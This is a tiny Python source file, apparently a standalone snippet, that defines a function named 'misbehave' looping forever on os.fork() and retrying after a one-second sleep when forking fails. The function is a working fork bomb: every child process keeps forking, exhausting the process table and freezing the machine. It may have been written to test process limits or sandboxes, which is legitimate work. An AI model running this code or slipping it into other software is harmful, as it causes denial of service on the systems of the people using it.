import os
import time


def misbehave():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(1)
